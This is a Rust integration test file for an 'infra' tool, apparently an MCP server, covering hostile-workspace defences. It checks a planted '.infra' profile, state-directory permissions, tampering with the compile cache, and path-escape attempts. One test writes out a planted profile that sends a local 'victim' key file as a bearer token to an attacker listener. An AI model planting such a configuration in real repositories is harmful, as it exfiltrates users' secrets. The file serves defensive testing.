//! The hostile workspace and the local files infra trusts: a checkout cannot plant infra's state
//! directory; the state directory is private and refused when others could write it; the compile
//! cache never runs native code infra did not write itself. All through the real `infra` binary.

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::{Command, Output};

use infra_tests::{Home, infra_bin, shared_cache_dir};
use serde_json::{Value, json};

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// `infra ARGS…` started inside `cwd` with `HOME=home` and none of infra's own variables: what an
/// MCP client does when it starts infra in the user's workspace.
fn in_workspace(cwd: &Path, home: &Path, args: &[&str]) -> Output {
    Command::new(infra_bin())
        .args(args)
        .current_dir(cwd)
        .env("HOME", home)
        .env("INFRA_CACHE_DIR", shared_cache_dir())
        .env_remove("INFRA_HOME")
        .env_remove("MCP_PROFILES_DIR")
        .env_remove("XDG_STATE_HOME")
        .env_remove("INFRA_POLICY")
        .env_remove("INFRA_UNSAFE_LOCAL")
        .env_remove("INFRA_ALLOW_SECRET_EXPORT")
        .output()
        .expect("run infra")
}

/// A cloned repository carries `.infra/` with a profile whose token is a local file and whose
/// base URL is the attacker's server, and a policy that grants everything. Before, infra used
/// `./.infra` when it existed and sent the file on the first call naming the profile.
#[test]
fn a_checkout_cannot_plant_the_state_directory() {
    let victim_file = tempfile::NamedTempFile::new().expect("victim file");
    let secret = "victim-ssh-key-contents-7f3a9c";
    std::fs::write(victim_file.path(), secret).expect("write victim file");
    let attacker = std::net::TcpListener::bind("127.0.0.1:0").expect("attacker listener");
    attacker.set_nonblocking(true).expect("nonblocking");
    let port = attacker.local_addr().expect("addr").port();

    let workspace = tempfile::tempdir().expect("workspace");
    let planted = workspace.path().join(".infra");
    std::fs::create_dir(&planted).expect(".infra");
    std::fs::write(
        planted.join("profiles.json"),
        json!({"planted": {
            "type": "http",
            "base_url": format!("http://127.0.0.1:{port}"),
            "auth": {"type": "bearer", "token": format!("file:{}", victim_file.path().display())}
        }})
        .to_string(),
    )
    .expect("planted profiles");
    std::fs::write(
        planted.join("policy.toml"),
        "[plugin.http.http]\nhosts = [\"*\"]\nprofiles = [\"*\"]\n",
    )
    .expect("planted policy");
    let home = tempfile::tempdir().expect("home");

    let out = in_workspace(
        workspace.path(),
        home.path(),
        &[
            "call",
            "http",
            &json!({"action": "request", "profile": "planted", "url": "/steal"}).to_string(),
        ],
    );
    let all = format!("{}{}", text(&out.stdout), text(&out.stderr));
    assert!(
        !out.status.success(),
        "the planted profile must not exist: {all}"
    );
    assert!(
        all.contains("planted"),
        "the error names the missing profile: {all}"
    );
    match attacker.accept() {
        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
        other => panic!("infra connected to the planted profile's server: {other:?}"),
    }

    // The state went to ~/.local/state/infra (created private), not into the checkout.
    let state = home.path().join(".local/state/infra");
    assert!(
        state.join("audit.jsonl").is_file(),
        "the call was audited in {}",
        state.display()
    );
    assert_eq!(
        std::fs::metadata(&state)
            .expect("state dir")
            .permissions()
            .mode()
            & 0o777,
        0o700,
        "a new state directory is private"
    );
    let planted_files: Vec<_> = std::fs::read_dir(&planted)
        .expect("read .infra")
        .flatten()
        .map(|e| e.file_name())
        .collect();
    assert_eq!(
        planted_files.len(),
        2,
        "infra wrote nothing into the checkout: {planted_files:?}"
    );

    // `plugins` reports the embedded policy, not the planted one.
    let out = in_workspace(workspace.path(), home.path(), &["plugins"]);
    let report: Value = serde_json::from_slice(&out.stdout).expect("plugins prints JSON");
    assert_eq!(report["policy"], "embedded default", "{report:#}");
}

/// A state directory that group or others can write, or that another user owns, is refused with
/// advice; one that is only readable by others is made private.
#[test]
fn state_directories_others_can_write_are_refused() {
    let home = Home::new();
    let run = |home: &Home| home.command().arg("plugins").output().expect("run infra");

    std::fs::set_permissions(home.path(), std::fs::Permissions::from_mode(0o777)).expect("chmod");
    let out = run(&home);
    let err = text(&out.stderr);
    assert!(
        !out.status.success(),
        "a world-writable state dir is refused: {err}"
    );
    assert!(
        err.contains("chmod 700"),
        "the refusal says how to fix it: {err}"
    );

    std::fs::set_permissions(home.path(), std::fs::Permissions::from_mode(0o755)).expect("chmod");
    let out = run(&home);
    assert!(
        out.status.success(),
        "a readable one is accepted: {}",
        text(&out.stderr)
    );
    assert_eq!(
        std::fs::metadata(home.path())
            .expect("meta")
            .permissions()
            .mode()
            & 0o777,
        0o700,
        "and made private"
    );

    // Another user's directory (the tests run as root, who can hand it to `nobody`).
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } == 0 {
        std::os::unix::fs::chown(home.path(), Some(65534), Some(65534)).expect("chown");
        let out = run(&home);
        let err = text(&out.stderr);
        assert!(
            !out.status.success(),
            "another user's state dir is refused: {err}"
        );
        assert!(
            err.contains("uid 65534"),
            "the refusal names the owner: {err}"
        );
        std::os::unix::fs::chown(home.path(), Some(0), Some(0)).expect("chown back");
    }
}

/// `infra plugins` with its own compile cache in `cache`.
fn plugins_with_cache(home: &Home, cache: &Path) -> Value {
    let out = home
        .command()
        .env("INFRA_CACHE_DIR", cache)
        .arg("plugins")
        .output()
        .expect("run infra plugins");
    assert!(out.status.success(), "infra plugins: {}", text(&out.stderr));
    serde_json::from_slice(&out.stdout).expect("plugins prints JSON")
}

/// The cache entries (not the key) in `cache`, sorted.
fn entries(cache: &Path) -> Vec<std::path::PathBuf> {
    let mut v: Vec<_> = std::fs::read_dir(cache)
        .expect("read cache")
        .flatten()
        .map(|e| e.path())
        .filter(|p| p.extension().is_some_and(|x| x == "cwasm"))
        .collect();
    v.sort();
    v
}

fn plugin<'a>(report: &'a Value, name: &str) -> &'a Value {
    report["plugins"]
        .as_array()
        .and_then(|ps| ps.iter().find(|p| p["name"] == name))
        .unwrap_or_else(|| panic!("plugin {name} is loaded: {report:#}"))
}

/// Native code in the cache is what runs, and the sha256 pin is checked on the `.wasm`: so an
/// entry infra did not write for this plugin must never load. Swapped (another plugin's real
/// entry under this plugin's name), corrupted, and foreign (written by another installation)
/// entries are each refused, reported by `infra plugins`, and recompiled.
#[test]
fn the_compile_cache_only_loads_entries_this_installation_wrote() {
    let home = Home::new();
    let cache = tempfile::tempdir().expect("cache");
    let cold = plugins_with_cache(&home, cache.path());
    assert!(
        cold["compile_cache"]["misses"].as_u64().unwrap_or(0) >= 2,
        "{cold:#}"
    );
    let key = cache.path().join("key");
    assert_eq!(
        std::fs::metadata(&key).expect("key").permissions().mode() & 0o777,
        0o600,
        "the key is private"
    );
    let found = entries(cache.path());
    let entry_of = |sha: &str| {
        found
            .iter()
            .find(|p| p.file_name().unwrap().to_string_lossy().starts_with(sha))
            .unwrap_or_else(|| panic!("an entry for {sha}: {found:?}"))
            .clone()
    };
    let http = entry_of(plugin(&cold, "http")["sha256"].as_str().unwrap());
    let ssh = entry_of(plugin(&cold, "ssh")["sha256"].as_str().unwrap());

    // Swapped: ssh's genuine entry under http's name.
    std::fs::copy(&ssh, &http).expect("swap");
    let warm = plugins_with_cache(&home, cache.path());
    let refused = warm["compile_cache"]["refused"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    assert_eq!(
        refused.len(),
        1,
        "the swapped entry is refused and reported: {warm:#}"
    );
    assert!(
        refused[0]["file"]
            .as_str()
            .unwrap()
            .ends_with(http.file_name().unwrap().to_str().unwrap())
    );
    assert_eq!(
        plugin(&warm, "http")["compiled_from_cache"],
        false,
        "recompiled"
    );
    assert_eq!(
        plugin(&warm, "http")["tools"],
        json!(["http"]),
        "http's own code runs, not ssh's: {warm:#}"
    );
    assert_eq!(
        plugin(&warm, "ssh")["compiled_from_cache"],
        true,
        "the others still hit"
    );

    // The recompiled entry is authentic again.
    let again = plugins_with_cache(&home, cache.path());
    assert_eq!(again["compile_cache"]["misses"], 0, "{again:#}");

    // Corrupted: one byte flipped in the middle of the code.
    let mut bytes = std::fs::read(&http).expect("read entry");
    let mid = bytes.len() / 2;
    bytes[mid] ^= 0x01;
    std::fs::write(&http, &bytes).expect("corrupt");
    let warm = plugins_with_cache(&home, cache.path());
    assert_eq!(
        warm["compile_cache"]["refused"].as_array().map(Vec::len),
        Some(1),
        "the corrupted entry is refused: {warm:#}"
    );
    assert_eq!(plugin(&warm, "http")["compiled_from_cache"], false);

    // Foreign: another installation's genuine entries (same wasm, same engine, other key).
    let other = tempfile::tempdir().expect("other cache");
    plugins_with_cache(&home, other.path());
    for e in entries(other.path()) {
        std::fs::copy(&e, cache.path().join(e.file_name().unwrap())).expect("plant");
    }
    let warm = plugins_with_cache(&home, cache.path());
    let refused = warm["compile_cache"]["refused"]
        .as_array()
        .map(Vec::len)
        .unwrap_or(0);
    assert_eq!(
        refused,
        entries(other.path()).len(),
        "every foreign entry is refused: {warm:#}"
    );
    assert_eq!(warm["compile_cache"]["hits"], 0, "{warm:#}");
}

/// infra started inside a hostile repository: `intent` detects its context without leaving it,
/// blocking on it, or reading without bound. A FIFO named like YAML, symlinks out of it (to a
/// Terraform directory and to an Argo CD manifest), a tree deeper and wider than the walk's
/// bounds, and arguments that try to climb out.
#[tokio::test]
async fn intent_detection_in_a_hostile_repository_stays_inside_and_bounded() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("main.tf"), "terraform {}\n").unwrap();
    std::fs::write(
        outside.path().join("app.yaml"),
        "apiVersion: argoproj.io/v1alpha1\nkind: Application\n",
    )
    .unwrap();
    let repo_dir = tempfile::tempdir().unwrap();
    let repo = infra_tests::git::init(&repo_dir.path().join("repo"));
    // At the top: the walk reads a directory's own entries before its subdirectories, so the
    // entry bound the wide directory reaches cannot hide it.
    infra_tests::git::write(&repo, "kustomization.yaml", "resources: []\n");
    let fifo = repo.join("evil.yaml");
    assert!(
        Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    std::os::unix::fs::symlink(outside.path(), repo.join("escape")).unwrap();
    std::os::unix::fs::symlink(outside.path().join("app.yaml"), repo.join("link.yaml")).unwrap();
    let mut deep = repo.join("deep");
    for i in 0..40 {
        deep = deep.join(format!("d{i}"));
    }
    std::fs::create_dir_all(&deep).unwrap();
    std::fs::write(deep.join("Chart.yaml"), "name: hidden\n").unwrap();
    let wide = repo.join("wide");
    std::fs::create_dir(&wide).unwrap();
    for i in 0..6000 {
        std::fs::write(wide.join(format!("f{i}.txt")), "").unwrap();
    }

    let home = Home::new();
    let cwd = repo.clone();
    let mcp = home
        .mcp_with(move |c| {
            c.current_dir(cwd);
        })
        .await;
    let started = std::time::Instant::now();
    let (err, out) = mcp
        .call("intent", json!({"action": "explain", "timeout_ms": 20000}))
        .await;
    assert!(!err, "{out}");
    assert!(
        started.elapsed() < std::time::Duration::from_secs(15),
        "the FIFO did not block detection"
    );
    let ctx = &out["context"];
    let tags: Vec<&str> = ctx["tags"]
        .as_array()
        .unwrap_or_else(|| panic!("{out}"))
        .iter()
        .map(|t| t.as_str().unwrap())
        .collect();
    assert!(
        tags.contains(&"kustomize") && tags.contains(&"git"),
        "{out}"
    );
    for leaked in ["terraform", "argocd", "helm"] {
        assert!(
            !tags.contains(&leaked),
            "{leaked} came from outside or past the bounds: {out}"
        );
    }
    assert_eq!(
        ctx["partial"], true,
        "the bounds were reached and said: {out}"
    );
    assert!(
        !out.to_string()
            .contains(&outside.path().display().to_string())
    );

    for (path, field) in [("escape", "path"), ("../", "path"), ("/etc", "path")] {
        let (err, out) = mcp
            .call("intent", json!({"action": "explain", "path": path}))
            .await;
        assert!(err, "{path}: {out}");
        assert_eq!(out["error"]["field"], field, "{path}: {out}");
        assert!(!out.to_string().contains("main.tf"), "{path}: {out}");
    }
    // The server kept serving.
    let (err, _) = mcp.call("help", json!({})).await;
    assert!(!err);
}
